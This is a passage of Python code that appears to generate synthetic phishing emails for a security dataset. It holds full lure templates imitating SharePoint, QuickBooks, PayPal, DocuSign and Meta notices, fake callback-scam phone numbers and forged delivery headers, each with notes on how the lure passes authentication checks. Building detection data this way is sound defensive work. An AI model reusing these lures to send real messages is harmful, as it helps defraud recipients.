    link = f"https://app.box.com/s/{r.alnum('s', 32)}"
    html = box_html(r, "Mark Ellery", "mark.ellery@ellerycc.co.uk", "Wey Court Phase 2 - Tender Package",
                    "Ellery Cost Consultants &middot; Viewer",
                    "Ryan &#8211; tender docs for Wey Court Phase 2 are in the folder. Open the 'Tender Instructions' note first for the "
                    "pricing return link. Returns by Friday 12:00 please. Mark", link)
    data = box_send(r, c, rcpt, t, "Mark Ellery", "mark.ellery@ellerycc.co.uk", "Wey Court Phase 2 - Tender Package", html, link)
    return done("phishing", kind, slug,
                "Real Box collaboration invite (box.com passes) sent from a quantity surveyor's compromised Box account; the "
                "'Tender Instructions' note inside the folder carries the phishing link, the mail only links to app.box.com.",
                data)


@sample
def sharepoint_completion_statement():
    kind, slug = "phish", "sharepoint-share-completion-statement-compromised-ashdown"
    r = S(kind, slug)
    c = CLIENTS["ashdown"]
    t = T(2024, 10, 16, 13, 27, 8)
    rcpt = "gareth.lloyd@ashdownpryce.co.uk"
    link = (f"https://mercerholt-my.sharepoint.com/:f:/g/personal/swhitlow_mercerholt_co_uk/E{r.b64url('sp', 33)}"
            f"?e=5%3a{r.mixed('e', 6)}&amp;sharingv2=true&amp;fromShare=true&amp;at=9")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0"><div style="display:none">Please see the completion statement and redemption figures ahead of Friday's completion.</div>
<table role="presentation" cellpadding="0" cellspacing="0" style="max-width:560px;font-family:'Segoe UI',-apple-system,Helvetica,Arial,sans-serif;color:#242424">
<tr><td style="padding:24px 24px 0 24px;font-size:24px;font-weight:600;line-height:32px">Sarah Whitlow shared a folder with you</td></tr>
<tr><td style="padding:16px 24px 0 24px"><table role="presentation" cellpadding="0" cellspacing="0" style="background:#f5f5f5;border-radius:4px" width="100%"><tr><td style="padding:12px 16px;font-size:14px;line-height:20px">Please see the completion statement and redemption figures ahead of Friday's completion.</td></tr></table></td></tr>
<tr><td style="padding:20px 24px 0 24px"><table role="presentation" cellpadding="0" cellspacing="0" style="border:1px solid #e0e0e0;border-radius:4px" width="100%"><tr><td style="padding:12px 16px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/48/folder.png" width="32" height="32" alt="" style="vertical-align:middle"> <span style="font-size:14px;font-weight:600">Completion Statement - 14 Clifton Park</span></td></tr></table></td></tr>
<tr><td style="padding:12px 24px 0 24px;font-size:12px;color:#616161">&#128279; This link will work for anyone.</td></tr>
<tr><td style="padding:20px 24px"><a href="{link}" style="background:#0f6cbd;color:#ffffff;text-decoration:none;padding:7px 20px;border-radius:4px;font-size:14px;font-weight:600">Open</a></td></tr>
<tr><td style="padding:24px;font-size:12px;color:#616161;border-top:1px solid #e0e0e0"><img src="https://res-1.cdn.office.net/assets/mail/file-icon/png/microsoft_logo.png" width="86" alt="Microsoft"><br><br><a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#616161">Privacy Statement</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></body></html>
"""
    body = Multi("alternative", oboundary(r, "alt"), [text(strip_tags(html).replace("\nOpen\n", f"\nOpen <{link.replace('&amp;', '&')}>\n")), text(html, "html")])
    transport, fields, helo, ip, msgid = exo_sender(r, t, "sharepointonline.com", "gbr", False, "sharepointonline.com", "selector1",
                                                    arc_results="spf=pass smtp.mailfrom=sharepointonline.com; dmarc=pass action=none header.from=sharepointonline.com; dkim=pass header.d=sharepointonline.com; arc=none")
    transport = transport[:4] + [fold(f"Received: from {exo_hosts(r, 'gbr', 'spo')['mbx']} ({exo_hosts(r, 'gbr', 'spo')['mbx_ip']}) by {exo_hosts(r, 'gbr', 'snd')['mbx']} with Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exo_build(t)}; {xdate(t)}", 77)]
    headers = ["From: Sarah Whitlow <no-reply@sharepointonline.com>", f"To: <{rcpt}>",
               "Subject: Sarah Whitlow shared the folder \"Completion Statement - 14 Clifton Park\" with you",
               f"Date: {rfc(t, 'UTC').replace('-0000', '+0000')}", f"Message-ID: <{r.guid('odsp')}@odspnotify>",
               "MIME-Version: 1.0",
               "X-Auto-Response-Suppress: All", "Auto-Submitted: auto-generated"]
    a = AU("no-reply@sharepointonline.com", ip, "pass", [("sharepointonline.com", "selector1", "pass")], "pass",
           "p=REJECT sp=REJECT dis=NONE", from_dom="sharepointonline.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, transport, headers, body, ctry="GB",
                   verdict=dict(bcl=1))
    return done("phishing", kind, slug,
                "Conveyancing-completion lure as a genuine SharePoint 'shared a folder' notice (sharepointonline.com passes) from "
                "another firm's hijacked OneDrive; the anyone-link folder on *-my.sharepoint.com holds the phishing document.",
                data)


# =========================================================================== invoices, payments and callback numbers

def quickbooks_html(r: R, merchant: str, merchant_email: str, inv: str, amount: str, due: str, note: str, link: str,
                    currency: str = "$", phone: str = "") -> str:
    return f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width,initial-scale=1"></head>
<body style="margin:0;padding:0;background-color:#f4f5f8"><table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background-color:#f4f5f8"><tr><td align="center" style="padding:24px 8px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'Avenir Next forINTUIT',Avenir,Helvetica,Arial,sans-serif;color:#393a3d">
<tr><td style="padding:28px 32px 8px 32px;font-size:20px;font-weight:600">{merchant}</td></tr>
<tr><td style="padding:0 32px 16px 32px;font-size:14px;color:#6b6c72">{merchant_email}{' &middot; ' + phone if phone else ''}</td></tr>
<tr><td style="padding:20px 32px;background:#eceef1;text-align:center"><div style="font-size:14px;color:#6b6c72">INVOICE {inv} DETAILS</div>
<div style="font-size:13px;color:#6b6c72;padding-top:10px">DUE {due}</div><div style="font-size:36px;font-weight:600;padding:6px 0 16px 0">{currency}{amount}</div>
<a href="{link}" style="background:#2ca01c;color:#ffffff;font-size:16px;font-weight:600;text-decoration:none;padding:12px 48px;border-radius:4px;display:inline-block">Review and pay</a></td></tr>
<tr><td style="padding:24px 32px;font-size:14px;line-height:21px;white-space:pre-line">{note}</td></tr>
<tr><td style="padding:16px 32px;font-size:12px;color:#8d9096;border-top:1px solid #e3e5e8">If you receive an email that seems fraudulent, please check with the business owner before paying.<br><br>
&copy; Intuit, Inc. All rights reserved. <a href="https://www.intuit.com/privacy/" style="color:#8d9096">Privacy</a> | <a href="https://quickbooks.intuit.com/legal/security/" style="color:#8d9096">Security</a> | <a href="https://www.intuit.com/legal/terms/" style="color:#8d9096">Terms of Service</a><br>
<img src="https://plugin.intuitcdn.net/sbg-web-shell-ui/6.3.0/shell/harmony/images/QBOlogo.png" width="120" alt="Powered by QuickBooks"></td></tr>
</table></td></tr></table></body></html>
"""


def quickbooks_send(r: R, c: Client, rcpt: str, t: datetime, merchant: str, reply_to: str, subject: str, html: str,
                    pdf: bytes | None, pdf_name: str, verdict=None) -> bytes:
    parts = [Multi("alternative", f"----=_Part_{r.num('qa', 1000000, 9999999)}_{r.num('qa2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                   [text(strip_tags(html)), text(html, "html")])]
    if pdf:
        parts.append(attachment("application/pdf", pdf_name, pdf))
        body = Multi("mixed", f"----=_Part_{r.num('qm', 1000000, 9999999)}_{r.num('qm2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}", parts)
    else:
        body = parts[0]
    ip = f"206.108.{r.num('qip3', 40, 41)}.{r.num('qip4', 10, 250)}"
    helo = f"mx{r.num('qmx', 1, 4)}.notification.intuit.com"
    sender = [dkim(r, "notification.intuit.com", "s1", "Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type", t, "generic"),
              f"Received: from sbgqbo-notify-{r.num('qn', 10, 99)}.prod.intuit.net (sbgqbo-notify-{r.num('qn', 10, 99)}.prod.intuit.net [10.{r.num('x', 10, 99)}.{r.num('y', 1, 250)}.{r.num('z', 1, 250)}])\n\tby {helo} (Postfix) with ESMTP id 4{r.alnum('q', 10, 'BCDFGHJKLMNPQRSTVWXYZ0123456789')}\n\tfor <{rcpt}>; {format_datetime(t.astimezone(ZoneInfo('America/Los_Angeles')))}"]
    headers = [f"Date: {format_datetime(t.astimezone(ZoneInfo('America/Los_Angeles')))}",
               f"From: \"{merchant}\" <quickbooks@notification.intuit.com>", f"Reply-To: {reply_to}", f"To: {rcpt}",
               f"Message-ID: <{r.num('qmid', 10**8, 10**9 - 1)}.{r.num('qmid2', 10**5, 10**6 - 1)}.{int(t.timestamp() * 1000)}@sbgqbo-notify.prod.intuit.net>",
               f"Subject: {subject}", "MIME-Version: 1.0", "X-Intuit-Email-Type: qbo-invoice", f"X-Intuit-Tid: 1-{r.hex('tid', 8)}-{r.hex('tid2', 24)}"]
    a = AU(f"bounce-{r.hex('bo', 16)}@notification.intuit.com", ip, "pass", [("notification.intuit.com", "s1", "pass")], "pass",
           "p=REJECT sp=REJECT dis=NONE", from_dom="notification.intuit.com")
    return deliver(r, c, rcpt, t + timedelta(seconds=3), helo, ip, a, sender, headers, body, verdict=verdict, ptr=helo)


@sample
def quickbooks_norton_callback():
    kind, slug = "phish", "quickbooks-invoice-norton-callback-hillcrest"
    r = S(kind, slug)
    c = CLIENTS["hillcrest"]
    t = T(2024, 6, 18, 14, 6, 52)
    rcpt = "dcarver@hillcrestmontessori.org"
    link = f"https://connect.intuit.com/t/scs-v1-{r.hex('scs', 64)}?cta=viewinvoicenow&amp;locale=en_US"
    phone = "+1 (808) 435-1967"
    note = ("Dear Customer,\n\nThank you for renewing your Norton 360 Total Protection (5 Devices, 2 Years) subscription. The amount of "
            f"$389.99 will be charged to your account on file within 24 hours.\n\nIf you did not authorize this renewal or wish to cancel, "
            f"please call our Billing Department at {phone} (Mon-Sat, 8am-8pm EST) before the charge is processed.\n\n"
            "Have a great day,\nNorton LifeLock Billing Team")
    html = quickbooks_html(r, "Norton LifeLock Billing", "nortonlifelockbilling.dept@gmail.com", "10245", "389.99", "06/18/2024",
                           note, link, phone=phone)
    pdf = text_pdf(["Norton LifeLock Billing", "INVOICE", "", "Invoice no.: 10245        Date: 06/18/2024        Terms: Due on receipt",
                    "Bill to: Hillcrest Montessori School", "",
                    "Norton 360 Total Protection - 5 devices - 2 years ............ $389.99", "Total ............................................................... $389.99", "",
                    f"To cancel or dispute this renewal call {phone}."], "Invoice 10245", "QuickBooks Online", date="D:20240618140612Z")
    data = quickbooks_send(r, c, rcpt, t, "Norton LifeLock Billing", "nortonlifelockbilling.dept@gmail.com",
                           "Invoice 10245 from Norton LifeLock Billing", html, pdf, "Invoice_10245_from_Norton_LifeLock_Billing.pdf")
    return done("phishing", kind, slug,
                "Callback scam sent as a real QuickBooks Online invoice (notification.intuit.com passes DMARC) from a free account "
                "named 'Norton LifeLock Billing'; the invoice note and PDF carry a phone number to 'cancel' a $389.99 renewal.",
                data)


@sample
def freshbooks_mcafee_callback():
    kind, slug = "phish", "freshbooks-invoice-mcafee-callback-foxglove"
    r = S(kind, slug)
    c = CLIENTS["foxglove"]
    t = T(2025, 10, 7, 9, 12, 30)
    rcpt = "beth.morgan@foxglovecreative.co.uk"
    token = r.hex("fb", 32)
    link = f"https://my.freshbooks.com/view/{token}"
    track = f"https://u{r.num('u', 1000000, 49999999)}.ct.sendgrid.net/ls/click?upn=u001.{r.b64url('upn', 90)}"
    phone = "0808 196 4472"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#f6f7f9"><table width="100%" cellpadding="0" cellspacing="0" style="background:#f6f7f9"><tr><td align="center" style="padding:32px 12px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:6px;font-family:'Helvetica Neue',Helvetica,Arial,sans-serif;color:#1a1f36">
<tr><td style="padding:32px 32px 8px 32px;font-size:15px;color:#5c6a7a">McAfee Subscription Services sent you an invoice</td></tr>
<tr><td style="padding:0 32px;font-size:34px;font-weight:600">&pound;299.99 GBP</td></tr>
<tr><td style="padding:4px 32px 24px 32px;font-size:14px;color:#5c6a7a">Invoice #0000412 &middot; Due 7 October 2025</td></tr>
<tr><td style="padding:0 32px 24px 32px"><a href="{track}" style="background:#0075dd;color:#ffffff;text-decoration:none;padding:12px 28px;border-radius:4px;font-size:15px;font-weight:600">View Invoice</a></td></tr>
<tr><td style="padding:16px 32px;font-size:14px;line-height:21px;border-top:1px solid #e4e7eb">Your McAfee+ Premium Family plan (up to 10 devices) has been automatically renewed for another 12 months. This amount will be debited from your account on file within 24 hours.<br><br>
If you did not request this renewal or believe this is an error, please contact our cancellation team on <b>{phone}</b> or +44 20 3868 4410 to stop the payment and receive a full refund.<br><br>Thank you for choosing McAfee.</td></tr>
<tr><td style="padding:24px 32px;font-size:12px;color:#8a96a3;text-align:center">Sent with <a href="https://www.freshbooks.com/?ref=invoice-email" style="color:#8a96a3">FreshBooks</a> &middot; <a href="https://www.freshbooks.com/policies/privacy" style="color:#8a96a3">Privacy</a><br>FreshBooks, 1655 Dupont St, Toronto, ON M6P 3T1</td></tr>
</table></td></tr></table><img src="https://u{r.num('u', 1000000, 49999999)}.ct.sendgrid.net/wf/open?upn=u001.{r.b64url('op', 60)}" width="1" height="1" alt=""></body></html>
"""
    _ = link
    body = Multi("alternative", r.hex("bnd", 60), [text(strip_tags(html).replace("View Invoice", f"View Invoice ( {track} )")), text(html, "html")])
    lines, helo, ip, msgid = sendgrid_lines(r, t, "freshbooks.com", "s1")
    headers = [f"Date: {format_datetime(t.astimezone(UTC))[:-6]} +0000 (UTC)",
               "From: McAfee Subscription Services <noreply@freshbooks.com>", "Reply-To: mcafee.renewals.uk@outlook.com",
               "Mime-Version: 1.0", f"Message-ID: {msgid}", "Subject: McAfee Subscription Services sent you an invoice (0000412)",
               f"X-Feedback-ID: {r.num('fb', 1000000, 9999999)}:SG", f"To: {rcpt}"] + sendgrid_after(r)
    a = AU(f"bounces+{r.num('bn', 1000000, 9999999)}-{r.hex('bh', 4)}-beth.morgan=foxglovecreative.co.uk@em.freshbooks.com",
           ip, "pass", [("freshbooks.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass",
           "p=QUARANTINE sp=QUARANTINE dis=NONE", from_dom="freshbooks.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, lines, headers, body, ctry="US")
    return done("phishing", kind, slug,
                "McAfee auto-renewal callback scam sent as a genuine FreshBooks invoice (freshbooks.com via SendGrid, DMARC pass) "
                "with UK freephone numbers in the invoice text and an Outlook.com Reply-To.",
                data)


def paypal_send(r: R, c: Client, rcpt: str, t: datetime, subject: str, html: str, template: str, domain: str = "paypal.com",
                verdict=None) -> bytes:
    body = Multi("alternative", f"--{r.hex('ppb', 8)}-{r.hex('ppb2', 4)}", [text(strip_tags(html)), text(html, "html")])
    ip = f"173.0.84.{r.num('ppip', 224, 230)}"
    helo = f"mx{r.num('ppmx', 0, 3)}.slc.paypal.com"
    sender = [dkim(r, domain, "pp-dkim1", "Content-Type:Date:Subject:To:From:Message-ID:MIME-Version", t, "generic", c="relaxed/simple"),
              f"Received: from ccg{r.num('ccg', 10, 13)}mail{r.num('cm', 10, 20)}.paypal.com (ccg{r.num('ccg', 10, 13)}mail{r.num('cm', 10, 20)}.paypal.com [10.{r.num('x', 10, 99)}.{r.num('y', 1, 250)}.{r.num('z', 1, 250)}])\n\tby {helo} with ESMTP; {format_datetime(t.astimezone(ZoneInfo('America/Los_Angeles')))}"]
    headers = [f"Date: {format_datetime(t.astimezone(ZoneInfo('America/Los_Angeles')))}",
               f"From: \"service@{domain}\" <service@{domain}>", f"To: {rcpt}", f"Subject: {subject}",
               f"Message-ID: <{r.hex('pm1', 2, True)}.{r.hex('pm2', 2, True)}.{r.num('pm3', 10000, 99999)}.{r.hex('pm4', 8, True)}@ccg{r.num('ccg', 10, 13)}mail{r.num('cm', 10, 20)}>",
               "MIME-Version: 1.0", f"X-MaxCode-Template: {template}", f"X-Email-Type-Id: {template}",
               f"X-XPT-XSL-Name: {template.lower()}", f"PP-Correlation-Id: {r.hex('corr', 13)}",
               f"X-PP-Email-transmission-Id: {r.guid('xmit')}", f"X-PP-REQUESTED-TIME: {int(t.timestamp() * 1000)}"]
    a = AU(f"service@{domain}", ip, "pass", [(domain, "pp-dkim1", "pass")], "pass", "p=REJECT sp=REJECT dis=NONE", from_dom=domain)
    return deliver(r, c, rcpt, t + timedelta(seconds=3), helo, ip, a, sender, headers, body, verdict=verdict, ptr=helo)


def paypal_frame(inner: str, footer_email: str, locale_footer: str = "PayPal, Inc. 2211 North First Street, San Jose, CA 95131",
                 template: str = "RT000238:en_US(en-US)") -> str:
    return f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#f2f2f2"><table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background:#f2f2f2"><tr><td align="center" style="padding:20px 8px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'PayPal Sans Text',Helvetica,Arial,sans-serif;color:#001435">
<tr><td style="padding:24px 32px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="40" height="40" alt="PayPal"></td></tr>
{inner}
<tr><td style="padding:24px 32px;font-size:12px;line-height:18px;color:#545d68;background:#faf8f5">Help &amp; Contact | Security | Apps<br><br>
PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name. <a href="https://www.paypal.com/us/security/learn-about-fake-messages" style="color:#0070e0">Learn to identify phishing</a><br><br>
Please don't reply to this email. To get in touch with us, click <a href="https://www.paypal.com/us/cshelp/personal" style="color:#0070e0">Help &amp; Contact</a>.<br><br>
This email was sent to {footer_email}.<br>Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved. {locale_footer}.<br>PayPal {template}:1.3.0:{hashlib.sha1(footer_email.encode()).hexdigest()[:14]}</td></tr>
</table></td></tr></table></body></html>
"""


@sample
def paypal_money_request_callback():
    kind, slug = "phish", "paypal-money-request-bitcoin-callback-brightwater"
    r = S(kind, slug)
    c = CLIENTS["brightwater"]
    t = T(2024, 2, 13, 16, 40, 15)
    rcpt = "billing@brightwaterdental.com"
    phone = "+1 (888) 482-0576"
    rid = r.ALNUM("rid", 17)
    link = f"https://www.paypal.com/myaccount/transfer/requests/{rid}?utm_source=unp&amp;utm_medium=email&amp;utm_campaign=RT000238&amp;utm_unptid={r.guid('u')}"
    inner = f"""<tr><td style="padding:0 32px;font-size:28px;line-height:36px;font-weight:500">Coinbase Settlement Dept requested $749.99 USD</td></tr>
<tr><td style="padding:16px 32px;font-size:15px;line-height:22px"><b>Note from Coinbase Settlement Dept:</b><br>&ldquo;PayPal Notice: Your account was used to purchase Bitcoin worth $749.99 USD via Coinbase. This amount will be debited within 24 hrs. If you did not authorize this purchase, immediately contact PayPal Billing Department at {phone} to cancel and get a full refund. Ref# PP-0098-1174-2231&rdquo;</td></tr>
<tr><td style="padding:8px 32px 24px 32px"><a href="{link}" style="background:#003087;color:#ffffff;text-decoration:none;font-size:16px;font-weight:600;padding:12px 36px;border-radius:24px;display:inline-block">Pay Now</a></td></tr>
<tr><td style="padding:0 32px 24px 32px;font-size:13px;color:#545d68">Requested on {t.astimezone(ZoneInfo('America/Los_Angeles')):%B %d, %Y}<br>Request ID: {rid}<br>You can pay with PayPal balance, a bank account, or cards in your wallet. Only pay people you know and trust.</td></tr>"""
    html = paypal_frame(inner, rcpt)
    data = paypal_send(r, c, rcpt, t, "Request for $749.99 USD", html, "RT000238")
    return done("phishing", kind, slug,
                "Genuine PayPal money request (paypal.com, DMARC reject passes) whose requester name and note claim a $749.99 "
                "Bitcoin purchase and give a 'PayPal Billing' phone number; the only link is PayPal's own.",
                data)


@sample
def docusign_platform_invoice_callback():
    kind, slug = "phish", "docusign-platform-autodesk-invoice-callback-ironridge"
    r = S(kind, slug)
    c = CLIENTS["ironridge"]
    t = T(2024, 11, 14, 17, 2, 9)
    rcpt = "ap@ironridgecontracting.com"
    env, acct, er = r.guid("env"), r.guid("acct"), r.guid("er")
    link = f"https://na3.docusign.net/Signing/EmailStart.aspx?a={env}&amp;etti=24&amp;acct={acct}&amp;er={er}"
    phone = "1-833-409-6621"
    note = (f"Hello, your Autodesk AutoCAD LT subscription (3 seats) renews automatically on 11/18/2024 for $1,284.00, charged to the "
            f"card on file. Please review and sign the attached renewal invoice INV-77041 to authorize payment. If you did not "
            f"request this renewal or need to change seats, contact Autodesk Billing at {phone} within 48 hours.")
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:0;margin:0;background-color:#EAEAEA"><table role="presentation" width="100%" cellspacing="0" cellpadding="0" style="background-color:#EAEAEA"><tr><td style="padding:24px 0">
<table role="presentation" align="center" width="640" cellspacing="0" cellpadding="0" style="background-color:#ffffff;font-family:Helvetica,Arial,sans-serif">
<tr><td style="padding:10px 24px"><img src="https://na3.docusign.net/Signing/Images/email/Email_Logo.png" alt="Docusign" width="116" height="34"></td></tr>
<tr><td style="padding:0 24px 30px 24px"><table role="presentation" width="100%" style="background-color:#1E4CA1;color:#ffffff" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 24px;font-size:16px;line-height:24px">
Autodesk Billing Dept sent you a document to review and sign.<br><br>
<a href="{link}" style="font-size:15px;color:#333333;background-color:#FFC423;font-weight:bold;text-decoration:none;border-radius:2px;padding:10px 22px;display:inline-block">REVIEW DOCUMENT</a></td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;color:#000000;font-size:16px"><b>Autodesk Billing Dept</b><br><span style="color:#666666;font-size:15px"><a href="mailto:autodesk.billing.dept@outlook.com" style="color:#2463D1">autodesk.billing.dept@outlook.com</a></span><br><br>{note}</td></tr>
<tr><td style="padding:0 24px 12px 24px;font-size:11px;color:#666666;line-height:18px"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.<br><br>
<b>Stop receiving this email</b><br><a href="https://protect.docusign.net/report-abuse?e=AUtomjpF{r.b64url('ra', 60)}&amp;lang=en" style="color:#2463D1">Report this email</a><br><br>
This message was sent to you by Autodesk Billing Dept who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.</td></tr>
</table></td></tr></table></body></html>
"""
    body = Multi("alternative", f"----=_NextPart_{r.hex('b', 8)}_{r.hex('b2', 4)}_{r.hex('b3', 4)}_{r.hex('b4', 4)}_{r.hex('b5', 12)}",
                 [text(strip_tags(html)), text(html, "html")])
    ip = f"64.207.218.{r.num('dsip', 70, 140)}"
    helo = "mailch.docusign.net"
    sender = [dkim(r, "docusign.net", "mail2", "Content-Type:Date:From:MIME-Version:Message-ID:Reply-To:Subject:To", t, "generic"),
              f"Received: from docusign.net (10.14.{r.num('i1', 1, 250)}.{r.num('i2', 1, 250)}) by mailch.docusign.net id {r.hex('dsid', 10)} for <{rcpt}>; {format_datetime(t.astimezone(ZoneInfo('America/Chicago')))}"]
    headers = [f"Message-ID: <{r.hex('mid', 32)}@docusign.net>", f"Date: {format_datetime(t.astimezone(ZoneInfo('America/Los_Angeles')))}",
               "From: Autodesk Billing Dept via Docusign <dse_NA3@docusign.net>", "Reply-To: Autodesk Billing Dept <autodesk.billing.dept@outlook.com>",
               f"To: Accounts Payable <{rcpt}>", "Subject: Complete with Docusign: Autodesk Renewal Invoice INV-77041.pdf",
               "MIME-Version: 1.0", f"X-DocuSign-EnvelopeId: {env}", "X-API-Host: na3.docusign.net", "X-DocuSign-Email-Type: EnvelopeActivation"]
    a = AU("dse_NA3@docusign.net", ip, "pass", [("docusign.net", "mail2", "pass")], "pass", "p=REJECT sp=REJECT dis=NONE",
           from_dom="docusign.net")
    data = deliver(r, c, rcpt, t + timedelta(seconds=4), helo, ip, a, sender, headers, body)
    return done("phishing", kind, slug,
                "Fake Autodesk renewal invoice sent through the real DocuSign service (docusign.net passes DMARC) by a throwaway "
                "DocuSign account, with a callback number in the envelope message; only genuine docusign.net links.",
                data)


@sample
def geek_squad_pdf_callback():
    kind, slug = "phish", "geek-squad-renewal-pdf-callback-riverbend"
    r = S(kind, slug)
    c = CLIENTS["riverbend"]
    t = T(2024, 8, 6, 15, 33, 48)
    rcpt = "npatel@riverbendliteracy.org"
    me = "kimberlyadams48213@gmail.com"
    phone = "+1 (815) 940-3377"
    paras = ["Dear Customer,", "", "Thank you for your continued trust in Geek Squad. Your annual Total Tech Support membership has "
             "been renewed successfully. Please find the invoice attached for your records.", "",
             f"If you wish to cancel or have any questions regarding this renewal, please reach us at {phone}.", "",
             "Regards,", "Geek Squad Billing Team"]
    pdf = text_pdf(["GEEK SQUAD - BEST BUY", "ORDER CONFIRMATION / INVOICE", "",
                    "Invoice No: GS-884120-US           Date: 08/06/2024", "Customer ID: BBY-77401923",
                    "Product: Total Tech Support - Annual Plan (Auto-Renewal)", "Quantity: 1", "Payment method: Auto Debit",
                    "Amount charged: $399.99 USD", "", "The charge will appear on your bank statement within 24-48 hours.",
                    f"To cancel and receive a full refund within 72 hours, call our billing desk: {phone}", "",
                    "Thank you for being a valued member."], "Invoice GS-884120", "Skia/PDF m127 Google Docs Renderer",
                   date="D:20240806153012+00'00'")
    alt_part = gmail_alt(r, paras)
    body = Multi("mixed", gboundary(r, "mx"), [alt_part, attachment("application/pdf", "INV_GS884120.pdf", pdf)])
    data = send_gmail(r, c, rcpt, t, me, f"Geek Squad Billing <{me}>", me,
                      "Order Confirmation #GS-884120 - Renewal Successful", body, "America/Chicago",
                      extra_after=[])
    return done("phishing", kind, slug,
                "Geek Squad renewal callback scam from a random Gmail address sent to itself with the victim in Bcc; a Google "
                "Docs-made PDF invoice for $399.99 carries the phone number, no link.",
                data)


@sample
def meta_ads_salesforce():
    kind, slug = "phish", "meta-ad-account-restricted-via-salesforce-foxglove"
    r = S(kind, slug)
    c = CLIENTS["foxglove"]
    t = T(2025, 6, 24, 13, 15, 27)
    rcpt = "zoe@foxglovecreative.co.uk"
    case = f"#{r.num('case', 10**13, 10**14 - 1)}"
    link = f"https://meta-business-appeal-center.vercel.app/case/{r.num('c2', 10**14, 10**15 - 1)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;padding:0;background:#f0f2f5">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f0f2f5"><tr><td align="center" style="padding:24px 8px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:8px;font-family:Helvetica,Arial,sans-serif;color:#1c2b33">
<tr><td style="padding:24px 32px 8px 32px"><img src="https://static.xx.fbcdn.net/rsrc.php/v3/yS/r/lqgQIV2I5T-.png" width="80" alt="Meta"></td></tr>
<tr><td style="padding:8px 32px;font-size:22px;font-weight:bold">Your ad account has been restricted</td></tr>
<tr><td style="padding:8px 32px;font-size:15px;line-height:22px">We've reviewed recent activity on the ad account connected to your Business Manager <b>Foxglove Creative Ltd</b> and found that it doesn't follow our Advertising Standards on intellectual property.<br><br>
As a result, advertising has been restricted and active campaigns managed by your business have been paused. If you believe this decision was made in error, you can submit an appeal within <b>24 hours</b>. After this period the restriction will become permanent and the associated Pages may be unpublished.</td></tr>
<tr><td style="padding:16px 32px"><a href="{link}" style="background:#0866ff;color:#ffffff;text-decoration:none;font-weight:bold;padding:11px 24px;border-radius:6px;font-size:15px">Request Review</a></td></tr>
<tr><td style="padding:8px 32px 24px 32px;font-size:13px;color:#65676b">Case ID: {case}</td></tr>
<tr><td style="padding:16px 32px;font-size:12px;color:#8a8d91;border-top:1px solid #e4e6eb">&copy; Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025<br>This message was sent to {rcpt}.</td></tr>
</table></td></tr></table></body></html>
"""
    body = Multi("alternative", f"----=_Part_{r.num('p', 10000000, 99999999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text(strip_tags(html)), text(html, "html")])
    ip = f"13.110.{r.num('sf3', 6, 78)}.{r.num('sf4', 10, 250)}"
    helo = f"smtp{r.num('sfn', 10, 30)}-ia{r.num('sfi', 4, 6)}-sp{r.num('sfs', 1, 3)}.mta.salesforce.com"
    org = f"00D{r.ALNUM('org', 12)}"
    sender = [dkim(r, "salesforce.com", "sf112022", "Date:From:To:Subject:MIME-Version:Content-Type:Message-ID", t, "generic"),
